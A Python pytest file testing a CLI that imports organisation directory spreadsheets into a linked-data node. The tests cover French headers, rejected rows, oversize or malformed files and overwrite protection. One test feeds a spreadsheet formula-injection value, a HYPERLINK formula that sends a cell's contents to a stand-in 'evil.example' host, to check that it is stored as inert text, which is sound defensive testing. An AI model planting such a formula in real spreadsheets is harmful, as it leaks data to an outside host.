"""``ddsnode import directory``: the example spreadsheet, French headers, and hostile files.

Every import goes through the CLI against a real node directory (its store on disk), while
the node runs in-process, and what was stored is read back over HTTP.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
import rdflib

from ddsnode import resources
from ddsnode.cli import main
from ddsnode.rdf.jsonld import parse_document
from ddsnode.rdf.vocab import DCTERMS, FOAF, ORG, RDF
from tests.support.inprocess import LocalNode, local_node

EXAMPLE = resources.examples_dir() / "directory" / "organisations.csv"
HEADER = EXAMPLE.read_text(encoding="utf-8").splitlines()[0]


def _rows() -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(EXAMPLE.read_text(encoding="utf-8"))))


def _run(node: LocalNode, source: Path, capsys: pytest.CaptureFixture[str],
         *extra: str) -> tuple[int, str, str]:
    status = main(["import", "directory", str(node.dir), str(source), *extra])
    out = capsys.readouterr()
    return status, out.out, out.err


def _csv(tmp_path: Path, text: str, name: str = "dir.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _organisations(node: LocalNode) -> dict[str, rdflib.Graph]:
    """name -> graph of every organisation resource the node serves (read over HTTP)."""
    found: dict[str, rdflib.Graph] = {}
    with node.client() as http:
        listing = http.get("/organisations/", headers={"Accept": "text/turtle"})
        assert listing.status_code == 200
        members = rdflib.Graph().parse(data=listing.text, format="turtle",
                                       publicID=node.url("organisations/"))
        for iri in members.objects(None, rdflib.URIRef("http://www.w3.org/ns/ldp#contains")):
            r = http.get(str(iri), headers={"Accept": "application/ld+json"})
            graph = parse_document(r.content, str(iri))
            if (iri, RDF.type, ORG.Organization) in graph:
                found[str(graph.value(iri, FOAF.name))] = graph
    return found


def test_example_imports_whole_again_writes_nothing_and_an_edit_updates(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One node through three imports: the example, the example again, the example with
    one row edited."""
    rows = _rows()
    with local_node(tmp_path) as node:
        before = set(_organisations(node))
        status, out, err = _run(node, EXAMPLE, capsys)
        assert status == 0, err
        assert f"{len(rows)} created, 0 updated, 0 unchanged, 0 rejected" in out
        stored = _organisations(node)
        assert set(stored) - before == {r["name"] for r in rows}
        for row in rows:
            graph = stored[row["name"]]
            org = next(graph.subjects(FOAF.name, rdflib.Literal(row["name"])))
            assert str(graph.value(org, FOAF.homepage)) == row["website"]
            titles = {str(t) for i in graph.objects(org, rdflib.URIRef(
                "https://w3id.org/dds/ns#hasInitiative")) for t in graph.objects(i, DCTERMS.title)}
            assert titles == {t.strip() for t in row["initiatives"].split("|")}
        status, out, _ = _run(node, EXAMPLE, capsys)
        assert status == 0 and f"0 created, 0 updated, {len(rows)} unchanged" in out

        # an edited row updates the same resource
        iri_before = {n: next(g.subjects(FOAF.name, rdflib.Literal(n)))
                      for n, g in stored.items()}
        text = EXAMPLE.read_text(encoding="utf-8").replace(
            "Quarterly public reports on the national digital agenda.",
            "Monthly public reports on the national digital agenda.")
        status, out, _ = _run(node, _csv(tmp_path, text), capsys)
        assert status == 0 and \
            f"0 created, 1 updated, {len(rows) - 1} unchanged, 0 rejected" in out
        after = _organisations(node)
        name = "Ministry of Digital Affairs of Norvalia"
        org = iri_before[name]
        assert str(after[name].value(org, DCTERMS.description)).startswith("Monthly")


def test_french_headers_semicolons_and_french_values(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = ("Nom;Site web;Pays;Type d'organisation;Ville;Latitude;Longitude;Familles;"
            "Niveau IAP2;Initiatives;Description;Langue\n"
            "Ville de Bellerive;https://bellerive.example/;fr;collectivité territoriale;Tours;"
            "47,39;0,69;Contrôle, audit et recours | co-conception des services publics "
            "numériques;impliquer;Registre des algorithmes;Un registre ouvert.;fr\n")
    with local_node(tmp_path) as node:
        status, out, err = _run(node, _csv(tmp_path, text), capsys)
        assert status == 0 and "1 created" in out and "0 rejected" in out, err
        graph = _organisations(node)["Ville de Bellerive"]
        dds = rdflib.Namespace("https://w3id.org/dds/ns#")
        initiative = next(graph.subjects(RDF.type, dds.GovernanceInitiative))
        assert {str(c).rsplit("/", 1)[1] for c in graph.objects(initiative,
                                                                dds.governanceCluster)} == {
            "oversightAndRedress", "publicServiceCodesign"}
        assert str(graph.value(initiative, dds.iap2Level)).endswith("/involve")
        assert str(next(graph.objects(None, dds.countryCode))) == "FR"
        lat = next(graph.objects(None, rdflib.URIRef(
            "http://www.w3.org/2003/01/geo/wgs84_pos#lat")))
        assert float(lat) == pytest.approx(47.39)


def test_missing_required_columns_refuse_the_file(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = "name,website,country\nA,https://a.example/,FR\n"
    with local_node(tmp_path) as node:
        before = set(_organisations(node))
        status, _, err = _run(node, _csv(tmp_path, text), capsys)
        assert status == 2
        assert "missing column(s): clusters, level" in err
        assert set(_organisations(node)) == before


ROW = "{name},https://{host}.example/,FR,civil society,Lyon,45.7,4.8,{cluster},consult,{init},{desc},en"


def _hostile(rows: list[dict[str, Any]]) -> str:
    lines = [HEADER]
    for i, row in enumerate(rows):
        values = {"name": f"Org {i}", "host": f"org{i}", "cluster": "oversight",
                  "init": f"Initiative {i}", "desc": "plain", **row}
        lines.append(ROW.format(**values))
    return "\n".join(lines) + "\n"


def test_rejected_rows_are_reported_with_line_and_reason_the_rest_imported(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = _hostile([
        {},                                          # line 2: fine
        {"cluster": "smart city"},                   # line 3: not in the scheme
        {"name": ""},                                # line 4: no name
        {"host": "org0"},                            # line 5: same website as line 2
        {"desc": "x" * 5000},                        # line 6: cell past max_literal_bytes
        {"cluster": "regulation"},                   # line 7: fine
    ])
    text += "Org 9,https://org9.example/,FR\n"      # line 8: too few fields
    with local_node(tmp_path, settings={"max_literal_bytes": 4096}) as node:
        status, out, err = _run(node, _csv(tmp_path, text), capsys)
        assert status == 0 and "2 created" in out and "5 rejected" in out
        assert "line 3: Org 1: unknown cluster 'smart city'" in err
        assert "line 4: (no name): no name" in err
        assert "line 5: Org 3: the same organisation as line 2" in err
        assert "line 6: Org 4: the description cell is 5,000 bytes, past max_literal_bytes" in err
        assert "line 8: Org 9: 3 fields where the header has 12" in err
        assert {"Org 0", "Org 5"} <= set(_organisations(node))
        assert not {"Org 1", "Org 3", "Org 4", "Org 9"} & set(_organisations(node))


def test_formula_cells_are_stored_as_the_text_they_are(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1;"click")'
    text = HEADER + "\n" + ROW.format(
        name='"=1+2"', host="f", cluster="audit", init='"@SUM(1,2)"',
        desc='"' + formula.replace('"', '""') + '"') + "\n"
    with local_node(tmp_path) as node:
        status, out, err = _run(node, _csv(tmp_path, text), capsys)
        assert status == 0 and "1 created" in out, err
        graph = _organisations(node)["=1+2"]
        assert {str(d) for d in graph.objects(None, DCTERMS.description)} == {formula}
        assert "@SUM(1,2)" in {str(t) for t in graph.objects(None, DCTERMS.title)}


def test_a_quote_left_open_keeps_the_rows_before_it(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = _hostile([{}, {}]) + 'Org 2,https://org2.example/,FR,civil society,"Lyon,45.7\n'
    with local_node(tmp_path) as node:
        status, out, err = _run(node, _csv(tmp_path, text), capsys)
        assert status == 0 and "2 created" in out and "1 rejected" in out
        assert "line 4: (no name): the file cannot be read from this line on" in err
        assert {"Org 0", "Org 1"} <= set(_organisations(node))


@pytest.mark.parametrize("content, settings, reason", [
    (_hostile([{}] * 4), {"directory_max_rows": 3}, "more than 3 rows (directory_max_rows)"),
    (_hostile([{}] * 4), {"directory_max_source_bytes": 200}, "larger than 200 bytes"),
    ("", {}, "the file is empty"),
    (None, {}, "not UTF-8"),
    ("name,clusters,level\n\x00,audit,inform\n", {}, "NUL bytes"),
])
def test_files_refused_whole(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                             content: str | None, settings: dict[str, Any], reason: str) -> None:
    path = tmp_path / "bad.csv"
    if content is None:
        path.write_bytes(HEADER.encode() + b"\nOrg\xe9,https://a.example/,FR,,,,,audit,inform,,,\n")
    else:
        path.write_text(content, encoding="utf-8")
    with local_node(tmp_path, settings=settings) as node:
        before = set(_organisations(node))
        status, _, err = _run(node, path, capsys)
        assert status == 2 and reason in err
        assert set(_organisations(node)) == before


def test_an_organisation_written_otherwise_is_not_overwritten(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with local_node(tmp_path) as node:
        iri, body = node.example("o-organisation-metropole-rivemont")
        with node.client() as http:
            assert http.put(iri, content=body, headers={
                **node.auth(), "Content-Type": "application/ld+json"}).status_code == 201
            before = http.get(iri, headers={"Accept": "application/n-triples"}).text
        text = HEADER + "\n" + ROW.replace("https://{host}.example/", "https://www.rivemont.example/"
                                           ).format(name="Métropole de Rivemont", host="",
                                                    cluster="audit", init="X", desc="Y") + "\n"
        status, out, err = _run(node, _csv(tmp_path, text), capsys)
        assert status == 0 and "0 created" in out and "1 rejected" in out
        assert f"line 2: Métropole de Rivemont: {iri} has the same website" in err
        with node.client() as http:
            assert http.get(iri, headers={"Accept": "application/n-triples"}).text == before
